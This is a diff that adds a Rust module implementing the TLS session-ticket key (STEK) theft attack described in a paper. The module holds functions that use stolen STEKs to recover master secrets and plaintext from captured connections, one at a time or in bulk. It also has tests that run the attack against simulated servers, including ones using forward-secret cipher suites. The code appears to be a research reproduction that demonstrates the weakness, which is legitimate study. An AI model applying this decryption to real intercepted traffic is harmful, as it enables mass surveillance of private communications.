@@ -1,0 +1,203 @@
+//! STEK theft (§6.1) — "the most worrisome practice".
+//!
+//! The session ticket travels outside the TLS tunnel: the server sends it
+//! in plaintext (NewSessionTicket) and the client replays it in later
+//! ClientHellos. Whoever holds the STEK decrypts the ticket, which
+//! *contains the session's master secret*, and with the (public) hello
+//! randoms re-derives the record keys — for the original connection and
+//! every resumption under that ticket, past or future, regardless of the
+//! key exchange used.
+
+use crate::passive::CapturedConnection;
+use ts_tls::ticket::{sniff_format, Stek};
+
+/// Why STEK-based decryption failed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum StekAttackError {
+    /// No ticket on the wire (neither issued nor offered).
+    NoTicket,
+    /// None of the stolen keys decrypts the ticket (rotated away).
+    NoMatchingKey,
+    /// The ticket decrypted but record decryption failed (shouldn't
+    /// happen with an authentic capture).
+    RecordFailure(String),
+}
+
+impl std::fmt::Display for StekAttackError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            StekAttackError::NoTicket => write!(f, "no ticket in capture"),
+            StekAttackError::NoMatchingKey => write!(f, "no stolen STEK matches"),
+            StekAttackError::RecordFailure(e) => write!(f, "record decryption failed: {e}"),
+        }
+    }
+}
+
+impl std::error::Error for StekAttackError {}
+
+/// Recovered plaintext from one connection.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct RecoveredTraffic {
+    /// Client→server application bytes.
+    pub client_to_server: Vec<u8>,
+    /// Server→client application bytes.
+    pub server_to_client: Vec<u8>,
+    /// The recovered master secret (for chaining further captures).
+    pub master_secret: [u8; 48],
+}
+
+/// Attempt to decrypt a captured connection with stolen STEKs.
+///
+/// Tries the ticket the client *offered* (resumptions) first, then the
+/// ticket the server *issued* (initial connections) — both are on the
+/// wire in plaintext.
+pub fn decrypt_with_stolen_steks(
+    capture: &CapturedConnection,
+    stolen: &[Stek],
+) -> Result<RecoveredTraffic, StekAttackError> {
+    let tickets: Vec<&Vec<u8>> = capture
+        .offered_ticket
+        .iter()
+        .chain(capture.issued_ticket.iter())
+        .collect();
+    if tickets.is_empty() {
+        return Err(StekAttackError::NoTicket);
+    }
+    for ticket in tickets {
+        let format = sniff_format(ticket);
+        for key in stolen {
+            if let Ok(state) = key.open(ticket, format) {
+                let (c2s, s2c) = capture
+                    .decrypt_with_master(&state.master_secret)
+                    .map_err(|e| StekAttackError::RecordFailure(e.to_string()))?;
+                return Ok(RecoveredTraffic {
+                    client_to_server: c2s,
+                    server_to_client: s2c,
+                    master_secret: state.master_secret,
+                });
+            }
+        }
+    }
+    Err(StekAttackError::NoMatchingKey)
+}
+
+/// Bulk decryption: the XKEYSCORE scenario — a pile of captures, a few
+/// stolen keys; returns (index, recovered) for every connection that falls.
+pub fn bulk_decrypt(
+    captures: &[CapturedConnection],
+    stolen: &[Stek],
+) -> Vec<(usize, RecoveredTraffic)> {
+    captures
+        .iter()
+        .enumerate()
+        .filter_map(|(i, c)| decrypt_with_stolen_steks(c, stolen).ok().map(|r| (i, r)))
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::passive::testutil::{run_connection, world};
+    use ts_crypto::drbg::HmacDrbg;
+
+    #[test]
+    fn stolen_stek_decrypts_initial_connection() {
+        let w = world(b"stek-initial");
+        let (capture, _client, _server) =
+            run_connection(&w, b"c1", 100, b"POST /login user=alice", b"welcome alice", None);
+        let parsed = CapturedConnection::parse(&capture).unwrap();
+        let stolen = w.config.tickets.as_ref().unwrap().steal_keys();
+        let recovered = decrypt_with_stolen_steks(&parsed, &stolen).unwrap();
+        assert_eq!(recovered.client_to_server, b"POST /login user=alice");
+        assert_eq!(recovered.server_to_client, b"welcome alice");
+    }
+
+    #[test]
+    fn stolen_stek_decrypts_resumed_connection() {
+        let w = world(b"stek-resumed");
+        let (_cap1, client, _server) = run_connection(&w, b"c1", 100, b"r1", b"s1", None);
+        let s = client.summary().unwrap();
+        let nst = s.new_ticket.clone().unwrap();
+        let (cap2, _c2, _s2) = run_connection(
+            &w,
+            b"c2",
+            200,
+            b"GET /inbox",
+            b"mail contents",
+            Some((nst.ticket, s.session.clone())),
+        );
+        let parsed = CapturedConnection::parse(&cap2).unwrap();
+        assert!(parsed.abbreviated);
+        let stolen = w.config.tickets.as_ref().unwrap().steal_keys();
+        let recovered = decrypt_with_stolen_steks(&parsed, &stolen).unwrap();
+        assert_eq!(recovered.client_to_server, b"GET /inbox");
+        assert_eq!(recovered.server_to_client, b"mail contents");
+    }
+
+    #[test]
+    fn pfs_cipher_does_not_help() {
+        // The connection used ECDHE — "forward secret" — yet falls to the
+        // STEK. This is the paper's core finding.
+        let w = world(b"stek-pfs");
+        let (capture, client, _server) =
+            run_connection(&w, b"c1", 100, b"secret query", b"secret answer", None);
+        assert!(client.summary().unwrap().cipher_suite.is_forward_secret());
+        let parsed = CapturedConnection::parse(&capture).unwrap();
+        let stolen = w.config.tickets.as_ref().unwrap().steal_keys();
+        assert!(decrypt_with_stolen_steks(&parsed, &stolen).is_ok());
+    }
+
+    #[test]
+    fn wrong_stek_recovers_nothing() {
+        let w = world(b"stek-wrong");
+        let (capture, _client, _server) = run_connection(&w, b"c1", 100, b"req", b"resp", None);
+        let parsed = CapturedConnection::parse(&capture).unwrap();
+        let mut rng = HmacDrbg::new(b"unrelated");
+        let wrong = vec![ts_tls::ticket::Stek::generate(&mut rng, 0)];
+        assert_eq!(
+            decrypt_with_stolen_steks(&parsed, &wrong),
+            Err(StekAttackError::NoMatchingKey)
+        );
+    }
+
+    #[test]
+    fn no_ticket_no_attack() {
+        // Client that doesn't offer ticket support → nothing on the wire.
+        let w = world(b"stek-noticket");
+        let mut ccfg = ts_tls::config::ClientConfig::new(w.store.clone(), "victim.sim", 100);
+        ccfg.offer_ticket_support = false;
+        let mut client = ts_tls::ClientConn::new(ccfg, HmacDrbg::new(b"nt-c"));
+        let mut server =
+            ts_tls::ServerConn::new(w.config.clone(), HmacDrbg::new(b"nt-s"), 100);
+        let result = ts_tls::pump::pump(&mut client, &mut server).unwrap();
+        let parsed = CapturedConnection::parse(&result.capture).unwrap();
+        let stolen = w.config.tickets.as_ref().unwrap().steal_keys();
+        assert_eq!(
+            decrypt_with_stolen_steks(&parsed, &stolen),
+            Err(StekAttackError::NoTicket)
+        );
+    }
+
+    #[test]
+    fn bulk_decryption_over_many_captures() {
+        let w = world(b"stek-bulk");
+        let mut captures = Vec::new();
+        for i in 0..5 {
+            let (cap, _c, _s) = run_connection(
+                &w,
+                format!("bulk{i}").as_bytes(),
+                100 + i,
+                format!("request {i}").as_bytes(),
+                format!("response {i}").as_bytes(),
+                None,
+            );
+            captures.push(CapturedConnection::parse(&cap).unwrap());
+        }
+        let stolen = w.config.tickets.as_ref().unwrap().steal_keys();
+        let recovered = bulk_decrypt(&captures, &stolen);
+        assert_eq!(recovered.len(), 5, "one 16-byte key, all connections fall");
+        for (i, r) in &recovered {
+            assert_eq!(r.client_to_server, format!("request {i}").as_bytes());
+        }
+    }
+}
